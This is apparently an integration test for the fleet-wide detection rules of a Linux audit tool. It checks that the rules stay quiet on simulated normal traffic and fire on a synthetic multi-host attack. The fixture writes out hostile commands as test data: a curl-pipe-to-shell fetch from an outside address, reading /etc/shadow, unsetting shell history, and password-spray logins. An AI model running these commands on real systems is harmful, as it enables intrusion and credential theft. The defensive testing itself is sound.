/**
 * The fleet-wide built-in rules (rules/builtin/fleet.yml) scheduled over the real
 * Elasticsearch node, as `auditkit rules run` runs them (runScheduled):
 * - over the demo's week (seed 42, 20 hosts, 7 days: its normal traffic and its
 *   single-host attack stories) they raise nothing on a host without a story;
 * - over a multi-host attack written after that week, each of them raises.
 */
import * as path from 'node:path';
import type { Client } from '@elastic/elasticsearch';
import { simulateFleet, type SimulatedFleet } from '../../demo';
import { CORE_FIELD_TYPES } from '../../elastic';
import { loadRules, runScheduled, type RuleDef } from '../../rules';
import { adaptMapping, datasetMapping, DYNAMIC_TEMPLATES, streamName, type AlertDocument } from '../../schema';
import { deleteNamespace, testClient, uniqueNamespace } from '../harness/es';

const ns = uniqueNamespace('fleet');
const index = `${streamName('commands', ns)},${streamName('auditd', ns)}`;
const DAY = 86_400_000;
let client: Client;
let rules: RuleDef[] = [];
let sim: SimulatedFleet;
/** The attack scenario starts a day after the demo week. */
let T: number;

const FLEET_IDS = {
  sprayHosts: 'ak-lnx-fleet-password-spray-hosts',
  sprayAccounts: 'ak-lnx-fleet-password-spray-accounts',
  lateral: 'ak-lnx-fleet-lateral-ssh',
  firstSeen: 'ak-lnx-fleet-first-login-user-host',
  burst: 'ak-lnx-fleet-dangerous-burst-login-user',
} as const;

async function createIndex(dataset: 'commands' | 'auditd' | 'alerts'): Promise<void> {
  const { mapping } = adaptMapping(datasetMapping(dataset), new Set(CORE_FIELD_TYPES));
  await client.indices.create({ index: streamName(dataset, ns), settings: { number_of_replicas: 0, number_of_shards: 1 }, mappings: { ...mapping, dynamic_templates: DYNAMIC_TEMPLATES as never } as never });
}

async function write(dataset: 'commands' | 'auditd', docs: ReadonlyArray<Record<string, unknown>>): Promise<void> {
  for (let k = 0; k < docs.length; k += 2000) {
    const res = await client.bulk({ operations: docs.slice(k, k + 2000).flatMap((d) => [{ create: { _index: streamName(dataset, ns), _id: (d['event'] as { id: string }).id } }, d]) });
    expect(res.errors).toBe(false);
  }
}

// --- the multi-host scenario: hosts of its own, addresses of its own ---
const HOSTS = ['atk-web-01', 'atk-app-01', 'atk-db-01', 'atk-cache-01', 'atk-mon-01'];
const ipOf = (h: string): string => `10.99.0.${HOSTS.indexOf(h) + 1}`;
let serial = 0;
const iso = (ms: number): string => new Date(ms).toISOString();
function auth(ms: number, host: string, outcome: 'success' | 'failure', acct: string, src: string): Record<string, unknown> {
  return {
    '@timestamp': iso(ms), data_stream: { type: 'logs', dataset: 'auditkit.auditd', namespace: ns },
    event: { kind: 'event', category: ['authentication'], type: ['start'], action: 'logged-in', outcome, dataset: 'auditkit.auditd', id: `atk-${serial++}` },
    host: { name: host, ip: [ipOf(host)] }, user: outcome === 'success' ? { name: acct, effective: { name: acct } } : { effective: { name: acct } },
    source: { ip: src }, process: { name: 'sshd', executable: '/usr/sbin/sshd' },
  };
}
function typed(ms: number, host: string, login: string, line: string): Record<string, unknown> {
  return {
    '@timestamp': iso(ms), data_stream: { type: 'logs', dataset: 'auditkit.commands', namespace: ns }, message: line,
    event: { kind: 'event', category: ['process'], type: ['start'], action: 'executed', dataset: 'auditkit.commands', id: `atk-${serial++}` },
    host: { name: host, ip: [ipOf(host)] }, user: { name: login },
    process: { name: line.split(' ')[0], command_line: line, entry_leader: { user: { name: login } } },
  };
}

function alertsOf(results: Awaited<ReturnType<typeof runScheduled>>, id: string): AlertDocument[] {
  return results.results.find((r) => r.rule === id)?.alerts.slice() ?? [];
}

beforeAll(async () => {
  client = testClient();
  rules = (await loadRules([path.resolve(__dirname, '../../rules/builtin')])).filter((r) => r.tags.includes('fleet'));
  sim = simulateFleet({ seed: 42, hosts: 20, days: 7, namespace: ns });
  T = sim.fleet.end + DAY;
  await Promise.all((['commands', 'auditd', 'alerts'] as const).map(createIndex));
  await write('commands', sim.documents.filter((d) => d.dataset === 'commands').map((d) => d.doc));
  await write('auditd', sim.documents.filter((d) => d.dataset === 'auditd').map((d) => d.doc));
  // 1. spraying: one address, one or two guesses per host, a different account each time
  const spray = '203.0.113.99';
  const accts = ['root', 'admin', 'oracle', 'postgres', 'ubuntu'];
  const auditd: Array<Record<string, unknown>> = [];
  const commands: Array<Record<string, unknown>> = [];
  HOSTS.forEach((h, i) => auditd.push(auth(T + i * 40_000, h, 'failure', accts[i] as string, spray)));
  // 2. lateral: tom logs in on atk-web-01, runs ssh from that session, a login on atk-db-01 from atk-web-01 follows
  const t2 = T + 3_600_000;
  auditd.push(auth(t2, 'atk-web-01', 'success', 'tom', '10.20.0.22'));
  commands.push(typed(t2 + 60_000, 'atk-web-01', 'tom', 'ssh root@10.99.0.3'));
  auditd.push(auth(t2 + 61_500, 'atk-db-01', 'success', 'root', ipOf('atk-web-01')));
  // 3. one login user's attack commands on three hosts within half an hour
  const t3 = T + 2 * 3_600_000;
  commands.push(typed(t3, 'atk-app-01', 'raj', 'curl -fsSL http://198.51.100.23/p.sh | sh'));
  commands.push(typed(t3 + 300_000, 'atk-cache-01', 'raj', 'cat /etc/shadow'));
  commands.push(typed(t3 + 600_000, 'atk-mon-01', 'raj', 'unset HISTFILE'));
  await write('auditd', auditd);
  await write('commands', commands);
  await client.indices.refresh({ index });
}, 240_000);

afterAll(async () => {
  await deleteNamespace(client, ns);
});

describe('fleet-wide rules on the real node', () => {
  it('raise nothing on the demo week\'s hosts without an attack story', async () => {
    expect(rules.length).toBe(5);
    const storyHosts = new Set(sim.actions.filter((a) => a.story !== undefined).map((a) => a.host));
    const started = Date.now();
    // Every fleet rule over the whole week, first-seen included: it learns the usual pairs on the
    // first day (first_seen.learning) and the simulator's regulars all work that day.
    const rep = await runScheduled(client, rules, { index, since: new Date(sim.fleet.start), until: new Date(sim.fleet.end), namespace: ns, write: false, maxEvents: 100_000 });
    console.log(`fleet rules over the demo week: ${Date.now() - started} ms, candidates ${rep.results.map((r) => `${r.rule}=${r.candidates}`).join(' ')}`);
    expect(rep.errors).toEqual([]);
    const all = rep.results.flatMap((r) => r.alerts);
    const onNormal = all.filter((a) => (a.related.hosts ?? [a.host.name]).some((h) => !storyHosts.has(h)));
    expect(onNormal.map((a) => a.event.reason)).toEqual([]);
    // The demo's one multi-account guessing story (42 guesses for 7 accounts from one address) is the one spray found.
    expect(alertsOf(rep, FLEET_IDS.sprayAccounts).map((a) => [a.host.name, a.source?.ip])).toEqual([['web-02', '203.0.113.45']]);
    for (const id of [FLEET_IDS.sprayHosts, FLEET_IDS.lateral, FLEET_IDS.burst]) expect(alertsOf(rep, id)).toEqual([]);
    // First-seen: only the brute-forced account's login on the host it was guessed on (a story).
    expect(alertsOf(rep, FLEET_IDS.firstSeen).map((a) => `${a.host.name}/${a.user?.name ?? ''}`)).toEqual(['web-02/deploy']);
  }, 120_000);

  it('first sudo of a user on a host: quiet on the demo week\'s normal traffic (after its learning day)', async () => {
    const all = await loadRules([path.resolve(__dirname, '../../rules/builtin')]);
    const rule = all.filter((r) => r.id === 'ak-lnx-first-sudo-user-host');
    expect(rule.length).toBe(1);
    const storyHosts = new Set(sim.actions.filter((a) => a.story !== undefined).map((a) => a.host));
    const rep = await runScheduled(client, rule, { index, since: new Date(sim.fleet.start), until: new Date(sim.fleet.end), namespace: ns, write: false, maxEvents: 100_000 });
    expect(rep.errors).toEqual([]);
    const got = rep.results.flatMap((r) => r.alerts);
    expect(got.filter((a) => !storyHosts.has(a.host.name)).map((a) => a.event.reason)).toEqual([]);
    // Without the learning day, the same week raises one per user/host pair: the rule is what keeps it quiet.
    const eager = rule.map((r) => (r.type === 'first_seen' ? { ...r, first_seen: { fields: r.first_seen.fields, history: r.first_seen.history } } : r));
    const rep2 = await runScheduled(client, eager, { index, since: new Date(sim.fleet.start), until: new Date(sim.fleet.end), namespace: ns, write: false, maxEvents: 100_000 });
    expect(rep2.results.flatMap((r) => r.alerts).length).toBeGreaterThan(20);
  }, 120_000);

  it('first login of a user on a host: after five days of history, only the pairs that are really new in the timeline', async () => {
    const from = sim.fleet.start + 5 * DAY;
    const rule = rules.filter((r) => r.id === FLEET_IDS.firstSeen);
    const rep = await runScheduled(client, rule, { index, since: new Date(from), until: new Date(sim.fleet.end), namespace: ns, write: false, maxEvents: 100_000 });
    expect(rep.errors).toEqual([]);
    // The oracle, from the timeline itself: pairs whose first successful login falls in the last two days.
    const firstLogin = new Map<string, number>();
    for (const a of sim.actions) if (a.kind === 'login' && a.outcome === 'success') if (!firstLogin.has(`${a.host}/${a.account}`)) firstLogin.set(`${a.host}/${a.account}`, a.t);
    const expected = [...firstLogin].filter(([, t]) => t >= from).map(([k]) => k).sort();
    const got = alertsOf(rep, FLEET_IDS.firstSeen).map((a) => `${a.host.name}/${a.user?.name ?? ''}`).sort();
    console.log(`first-seen user/host pairs in the demo's last two days after five days of history: ${got.length} (${got.join(', ')})`);
    expect(got).toEqual(expected);
    // The simulator's normal traffic keeps to each host's regulars: no pair is new late in the week.
    expect(expected).toEqual([]);
  }, 120_000);

  it('each raises on the multi-host attack, on the hosts it involved', async () => {
    const rep = await runScheduled(client, rules, { index, since: new Date(T - 60_000), namespace: ns, write: true, maxEvents: 100_000 });
    expect(rep.errors).toEqual([]);
    const hostsOf = (id: string): string[][] => alertsOf(rep, id).map((a) => [...(a.related.hosts ?? [])].sort());
    expect(hostsOf(FLEET_IDS.sprayHosts)).toEqual([[...HOSTS].sort()]);
    expect(alertsOf(rep, FLEET_IDS.sprayHosts)[0]?.auditkit.alert.count).toBe(5);
    expect(hostsOf(FLEET_IDS.sprayAccounts)).toEqual([[...HOSTS].sort()]);
    expect(hostsOf(FLEET_IDS.lateral)).toEqual([['atk-db-01', 'atk-web-01']]);
    expect(hostsOf(FLEET_IDS.burst)).toEqual([['atk-app-01', 'atk-cache-01', 'atk-mon-01']]);
    expect(alertsOf(rep, FLEET_IDS.burst)[0]?.process?.entry_leader?.user?.name).toBe('raj');
    // new pairs only: the scenario's hosts are new to every account that logs in there (no history before T)
    expect(alertsOf(rep, FLEET_IDS.firstSeen).map((a) => `${a.host.name}/${a.user?.name ?? ''}`).sort()).toEqual(['atk-db-01/root', 'atk-web-01/tom']);
    expect(rep.written).toBe(rep.results.reduce((n, r) => n + r.alerts.length, 0));
    // a second run over the same window writes nothing new (deterministic ids)
    const again = await runScheduled(client, rules, { index, since: new Date(T - 60_000), namespace: ns, write: true, maxEvents: 100_000 });
    expect(again.written).toBe(0);
    expect(again.existing).toBe(rep.written);
  }, 120_000);
});
